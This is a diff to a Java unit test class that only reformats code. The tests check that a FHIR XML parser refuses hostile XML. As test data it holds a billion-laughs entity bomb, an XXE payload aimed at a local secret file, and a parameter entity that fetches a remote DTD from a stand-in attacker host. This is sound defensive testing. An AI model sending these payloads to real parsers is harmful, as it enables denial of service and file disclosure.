@@ -27,8 +27,7 @@ class HostileFhirTest {
     @TempDir
     Path dir;
 
-    private static final String BILLION_LAUGHS =
-            """
+    private static final String BILLION_LAUGHS = """
             <?xml version="1.0"?>
             <!DOCTYPE lolz [
              <!ENTITY lol "lol">
@@ -51,8 +50,7 @@ class HostileFhirTest {
                 <?xml version="1.0"?>
                 <!DOCTYPE AdverseEvent [<!ENTITY leak SYSTEM "%s">]>
                 <AdverseEvent xmlns="http://hl7.org/fhir"><event><text value="&leak;"/></event></AdverseEvent>
-                """
-                .formatted(secret.toUri());
+                """.formatted(secret.toUri());
     }
 
     private static Checked<List<FhirCase>> read(String body, FhirFormat format) {
@@ -81,8 +79,7 @@ class HostileFhirTest {
 
     @Test
     void aParameterEntityThatWouldFetchARemoteDtdIsRefused() {
-        String remote =
-                """
+        String remote = """
                 <?xml version="1.0"?>
                 <!DOCTYPE AdverseEvent [<!ENTITY % dtd SYSTEM "http://attacker.invalid/evil.dtd"> %dtd;]>
                 <AdverseEvent xmlns="http://hl7.org/fhir"/>
@@ -103,12 +100,13 @@ class HostileFhirTest {
     void hapisOwnParserRefusesTheSamePayloadsWithoutReadingOrExpanding() throws IOException {
         String external = externalEntity();
         for (String payload : List.of(external, BILLION_LAUGHS)) {
-            Assertions.assertTimeoutPreemptively(Duration.ofSeconds(5), () -> assertThatThrownBy(
-                            () -> FhirR4.parser(FhirFormat.XML).parseResource(payload))
-                    .isInstanceOf(DataFormatException.class)
-                    .hasMessageContaining("Undeclared general entity")
-                    .message()
-                    .doesNotContain("TOP-SECRET"));
+            Assertions.assertTimeoutPreemptively(
+                    Duration.ofSeconds(5),
+                    () -> assertThatThrownBy(() -> FhirR4.parser(FhirFormat.XML).parseResource(payload))
+                            .isInstanceOf(DataFormatException.class)
+                            .hasMessageContaining("Undeclared general entity")
+                            .message()
+                            .doesNotContain("TOP-SECRET"));
         }
     }
 
